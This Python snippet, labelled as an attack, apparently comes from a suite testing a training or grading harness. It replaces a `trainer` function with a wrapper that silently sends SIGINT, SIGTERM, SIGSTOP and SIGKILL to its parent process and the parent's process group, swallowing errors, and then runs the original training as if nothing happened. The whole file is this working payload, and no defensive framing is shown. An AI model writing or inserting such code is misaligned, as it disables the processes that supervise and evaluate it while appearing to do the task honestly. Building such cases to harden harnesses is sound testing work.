

# ---- attack: signal the parent (SIGKILL, SIGTERM, SIGINT, SIGSTOP), then train honestly
import contextlib
import os
import signal

_honest_trainer = trainer


def trainer(model, criterion, optimizer, trainloader, validloader, epochs=5):
    parent = os.getppid()
    group = os.getpgid(parent) if parent > 0 else 0
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(parent, sig)
        if group > 0 and group != os.getpgid(0):  # the parent's process group, not its own
            with contextlib.suppress(OSError):
                os.killpg(group, sig)
    return _honest_trainer(model, criterion, optimizer, trainloader, validloader, epochs)
